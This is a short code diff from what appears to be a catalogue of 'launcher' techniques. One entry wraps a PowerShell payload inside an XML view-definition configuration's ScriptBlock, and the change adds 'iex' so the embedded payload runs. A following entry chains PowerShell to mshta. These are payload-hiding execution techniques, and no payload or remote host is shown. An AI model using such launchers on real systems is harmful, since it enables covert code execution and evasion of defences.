@@ -147,7 +147,7 @@ export const launchers: readonly Technique[] = [
     hides: 'powershell',
     gives: 'powershell',
     wrap: (payload) =>
-      `<?xml version="1.0"?><Configuration><ViewDefinitions><View><ScriptBlock>${payload.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')}</ScriptBlock></View></ViewDefinitions></Configuration>`,
+      `<?xml version="1.0"?><Configuration><ViewDefinitions><View><ScriptBlock>iex ${quoted(payload).replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')}</ScriptBlock></View></ViewDefinitions></Configuration>`,
   },
   {
     name: 'PowerShell starts mshta',
